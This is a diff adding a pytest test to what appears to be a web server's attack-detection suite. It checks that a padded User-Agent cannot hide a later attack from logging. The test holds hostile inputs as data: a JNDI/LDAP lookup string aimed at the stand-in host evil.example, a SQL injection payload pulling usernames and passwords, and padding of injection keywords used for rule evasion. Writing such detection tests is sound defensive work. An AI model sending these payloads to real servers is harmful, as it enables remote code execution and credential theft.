@@ -491,3 +491,42 @@ def test_every_attack_recorded_once(httpd_factory):
     assert chk["missing"] == [], chk["missing"][:20]
     assert chk["duplicated"] == [] and chk["unknown"] == [], chk
     assert chk["logged"] == chk["sent"]
+
+
+def _padded_user_agent():
+    """~8,000 bytes of rule-waking tokens between runs of letters."""
+    unit = ("union select sleep load_file script document. ${ <? {{ .. | "
+            + "a" * 40 + " ")
+    return (unit * (8000 // len(unit) + 1))[:8000]
+
+
+@pytest.mark.parametrize("where", ["referer", "cookie"])
+def test_padded_header_does_not_hide_the_next(httpd, where):
+    """A User-Agent that wakes many rules cannot use up the regex work of
+    the fields after it: the attack behind 7,000 bytes of padding in the
+    Referer or the Cookie is recorded with its own category, and the
+    padded User-Agent itself as an evasion (rule 800000)."""
+    ua = _padded_user_agent()
+    if where == "referer":
+        headers = [("Referer", "x" * 7000 + "${jndi:ldap://evil.example/a}")]
+        cat = "rce"
+    else:
+        headers = [("Cookie", "id=-1 UNION SELECT username,password FROM "
+                    "users--;p=" + "b" * 7000)]
+        cat = "sqli"
+    client = "198.51.100.%d" % (7 if where == "referer" else 8)
+    assert httpd.get("/", user_agent=ua, xff=client,
+                     headers=headers) == 200
+    rec = httpd.wait_for(lambda r: r["client"] == client)
+    assert rec is not None, "the padded request left no record"
+    lwhttpd.check_record(rec)
+    assert cat in rec["categories"], rec["rules"]
+    ev = [r for r in rec["rules"] if r["id"] == 800000]
+    assert ev and ev[0]["category"] == "protocol"
+    assert ev[0]["field"] == "user_agent" and ev[0]["detail"]
+    # the same attack without the padded User-Agent: flagged the same way
+    client2 = client + "0"
+    assert httpd.get("/", user_agent="Mozilla/5.0", xff=client2,
+                     headers=headers) == 200
+    rec2 = httpd.wait_for(lambda r: r["client"] == client2)
+    assert rec2 is not None and cat in rec2["categories"]
